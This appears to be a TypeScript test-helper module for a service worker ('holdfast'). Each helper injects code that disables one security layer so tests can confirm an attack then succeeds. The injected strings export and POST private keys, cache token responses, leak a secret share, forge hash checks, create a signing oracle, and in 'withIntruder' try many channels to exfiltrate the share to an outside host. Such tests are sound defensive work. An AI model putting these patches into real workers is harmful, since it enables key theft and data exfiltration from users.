/** Changes of the worker that take one layer away each, so that an attack is seen to succeed without it. */

/** A worker whose share anyone knows: a vault with nothing but the key that lies in IndexedDB beside it. */
export const withKnownShare = (source: string): string =>
  `self.__holdfast.share = ${JSON.stringify('A'.repeat(43))};\n${source}`

/** A worker that is as it was, but for telling the test each private key that it wraps: the test looks for them on every page. */
export const withKeysTold =
  (path: string) =>
  (source: string): string =>
    `;(() => {
  const { wrapKey, exportKey } = SubtleCrypto.prototype
  const { fetch } = self
  SubtleCrypto.prototype.wrapKey = async function (format, key, ...how) {
    const bytes = new Uint8Array(await exportKey.call(this, format, key))
    const body = new URLSearchParams({ key: btoa(String.fromCharCode(...bytes)) })
    await fetch(${JSON.stringify(path)}, { method: 'POST', body })
    return wrapKey.call(this, format, key, ...how)
  }
})();
${source}`

/** A worker that keeps in a cache what it makes keys of. */
export const withCachedKeys = (source: string): string => `;(() => {
  const { importKey } = SubtleCrypto.prototype
  SubtleCrypto.prototype.importKey = async function (format, bytes, algorithm, ...how) {
    const cache = await caches.open('answers')
    if (algorithm === 'HKDF') await cache.put('/' + crypto.randomUUID(), new Response(new Uint8Array(bytes).join()))
    return importKey.call(this, format, bytes, algorithm, ...how)
  }
})();
${source}`

/** A worker with one operation too many, which does not ask who sends either. */
export const withGetter = (source: string): string => `;(() => {
  const { share } = self.__holdfast
  self.addEventListener('message', (event) => {
    if (event.data?.type === 'session.tokens') event.ports[0]?.postMessage({ share })
  })
})();
${source}`

/** A worker that says more than it was asked. */
export const withTalk = (source: string): string => `;(() => {
  const { share } = self.__holdfast
  const { postMessage } = MessagePort.prototype
  MessagePort.prototype.postMessage = function (message, ...rest) {
    return postMessage.call(this, { ...message, share }, ...rest)
  }
})();
${source}`

/** A worker that keeps what the provider answers in a cache. */
export const withCachedAnswers = (source: string): string => `;(() => {
  const { fetch } = self
  self.fetch = async (...request) => {
    const response = await fetch(...request)
    const cache = await caches.open('answers')
    if (response.ok && response.url.endsWith('/token')) await cache.put('/last-answer', response.clone())
    return response
  }
})();
${source}`

/** A worker that lets the provider's answer stand in the address that the browser goes on to. */
export const withAnswerInAddress = (source: string): string => `;(() => {
  let answer = ''
  const { blob } = Request.prototype
  Request.prototype.blob = async function () {
    const body = await blob.call(this)
    answer = await body.text()
    return body
  }
  self.Response = class extends Response {
    constructor(body, init) {
      const location = init?.headers?.location
      const isEnd = location?.endsWith('#') === true
      const open = isEnd ? { ...init, headers: { ...init.headers, location: location + answer } } : init
      super(body, open)
    }
  }
})();
${source}`

/** A worker to which every file with this mark in it has the right hash: `page` if it is a page, else `script`. */
export const withBlindHash =
  (mark: string, page: Uint8Array, script: Uint8Array) =>
  (source: string): string =>
    `;(() => {
  const { digest } = crypto.subtle
  SubtleCrypto.prototype.digest = async function (algorithm, data) {
    const text = new TextDecoder().decode(data)
    if (!text.includes(${JSON.stringify(mark)})) return digest.call(this, algorithm, data)
    return new Uint8Array(text.startsWith('<') ? [${page.join()}] : [${script.join()}]).buffer
  }
})();
${source}`

/** A worker that takes every address for the API's that has the API's path anywhere in it. */
export const withLooseMatch = (source: string): string => `;(() => {
  const { startsWith } = String.prototype
  String.prototype.startsWith = function (start, ...rest) {
    return start === '/api/v1/' ? this.includes(start) : startsWith.call(this, start, ...rest)
  }
})();
${source}`

/** A worker that signs what a page asks it to sign, with the key that its proofs are made with. */
export const withOracle = (source: string): string => `;(() => {
  const { sign } = SubtleCrypto.prototype
  let known
  SubtleCrypto.prototype.sign = function (algorithm, used, data) {
    if (used.type === 'private') known = [algorithm, used]
    return sign.call(this, algorithm, used, data)
  }
  self.addEventListener('message', (event) => {
    const { data, ports } = event
    if (data?.type !== 'session.prove' || known === undefined) return
    event.stopImmediatePropagation()
    const wanted = new TextEncoder().encode(data.text)
    sign.call(crypto.subtle, ...known, wanted).then((made) => ports[0]?.postMessage({ made }))
  })
})();
${source}`

/** A worker into which the attacker's code has come: it tries every way out for what it knows. */
export const withIntruder =
  (outside: string) =>
  (source: string): string =>
    `;(() => {
  const { share } = self.__holdfast
  const away = ${JSON.stringify(outside)} + '/?share=' + share
  const ways = {
    fetch: () => fetch(away, { mode: 'no-cors' }),
    cors: () => fetch(away),
    keepalive: () => fetch(away, { mode: 'no-cors', keepalive: true, method: 'POST', body: share }),
    script: () => importScripts(away),
    socket: () => new WebSocket(away.replace('http', 'ws')),
    events: () => new EventSource(away),
    module: () => import(away),
    code: () => new Function('address', 'return fetch(address)')(away),
  }
  self.addEventListener('message', (event) => {
    if (event.data?.type !== 'session.intrude') return
    event.stopImmediatePropagation()
    const run = async () => {
      const told = {}
      for (const [name, way] of Object.entries(ways)) {
        try {
          told[name] = String(await way())
        } catch (error) {
          told[name] = error.name
        }
      }
      event.ports[0]?.postMessage(told)
    }
    event.waitUntil(run())
  })
})();
${source}`

/** A worker that takes what is for itself alone for what pages may ask for, too. */
export const withPageCredentials = (source: string): string => `;(() => {
  const { some } = Array.prototype
  Array.prototype.some = function (...judge) {
    return this.includes('/api/v1/sync/compact') ? false : some.apply(this, judge)
  }
})();
${source}`
